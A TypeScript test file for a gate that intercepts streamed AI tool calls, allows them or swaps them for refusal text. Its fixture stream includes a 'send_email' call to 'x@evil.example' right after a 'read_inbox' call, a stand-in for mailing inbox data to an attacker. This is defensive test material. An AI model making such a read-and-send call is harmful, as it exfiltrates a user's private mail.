import { describe, expect, it } from 'vitest';
import { SseFramer } from '../sse-framer.js';
import type { ReplyToolCall, ToolVerdict } from '../tool-gate.js';
import { OpenAiStreamGate } from './stream.js';

const base = { id: 'chatcmpl-1', object: 'chat.completion.chunk', created: 1, model: 'gpt-x' };
const chunk = (delta: unknown, finish: string | null = null): string => `data: ${JSON.stringify({ ...base, choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
const FRAMES = [
  chunk({ role: 'assistant', content: null }),
  chunk({ content: 'On it.' }),
  chunk({ tool_calls: [{ index: 0, id: 'call_a', type: 'function', function: { name: 'read_inbox', arguments: '' } }] }),
  chunk({ tool_calls: [{ index: 0, function: { arguments: '{"folder":' } }] }),
  chunk({ tool_calls: [{ index: 1, id: 'call_b', type: 'function', function: { name: 'send_email', arguments: '{"to":"x@evil.example"}' } }] }),
  chunk({ tool_calls: [{ index: 0, function: { arguments: '"inbox"}' } }] }),
  chunk({ content: ' Done.' }),
  chunk({}, 'tool_calls'),
  'data: [DONE]\n\n',
];

function run(decide: (c: ReplyToolCall) => ToolVerdict): { out: string[]; calls: ReplyToolCall[] } {
  const calls: ReplyToolCall[] = [];
  const gate = new OpenAiStreamGate((c) => (calls.push(c), decide(c)));
  const framer = new SseFramer();
  return { out: FRAMES.map((f) => (framer.push(f) ?? []).map((x) => gate.frame(x)).join('')), calls };
}

const datas = (s: string): Record<string, unknown>[] =>
  s
    .split('\n\n')
    .filter((x) => x.startsWith('data: {'))
    .map((x) => JSON.parse(x.slice(6)) as Record<string, unknown>);

describe('OpenAiStreamGate', () => {
  it('passes text at once, assembles interleaved tool-call arguments, and releases allowed calls byte-exact', () => {
    const { out, calls } = run(() => ({ kind: 'allow' }));
    expect(out.slice(0, 2)).toEqual(FRAMES.slice(0, 2));
    expect(out.slice(2, 6)).toEqual(['', '', '', '']);
    expect(out[6]).toBe(FRAMES[6]);
    expect(out[7]).toBe([...FRAMES.slice(2, 6), FRAMES[7]].join(''));
    expect(out[8]).toBe('data: [DONE]\n\n');
    expect(calls).toEqual([
      { name: 'read_inbox', callId: 'call_a', rawArgs: '{"folder":"inbox"}' },
      { name: 'send_email', callId: 'call_b', rawArgs: '{"to":"x@evil.example"}' },
    ]);
  });

  it('re-sends the allowed call renumbered and the refusal as content; finish stays tool_calls while one call is left', () => {
    const { out } = run((c) => (c.name === 'send_email' ? { kind: 'replace', text: 'no.' } : { kind: 'allow' }));
    const d = datas(out[7] as string).map((x) => (x['choices'] as { delta: unknown; finish_reason: unknown }[])[0]);
    expect(d).toEqual([
      { index: 0, delta: { role: 'assistant', tool_calls: [{ index: 0, id: 'call_a', type: 'function', function: { name: 'read_inbox', arguments: '{"folder":"inbox"}' } }] }, finish_reason: null },
      { index: 0, delta: { role: 'assistant', content: 'no.' }, finish_reason: null },
      { index: 0, delta: {}, finish_reason: 'tool_calls' },
    ]);
  });

  it('finishes with stop when every call is refused', () => {
    const { out } = run(() => ({ kind: 'replace', text: 'no.' }));
    const last = datas(out[7] as string).at(-1) as { choices: { finish_reason: string }[] };
    expect(last.choices[0]?.finish_reason).toBe('stop');
    expect(out[7]).not.toContain('tool_calls"');
    expect(out[6]).toBe(FRAMES[6]);
  });
});
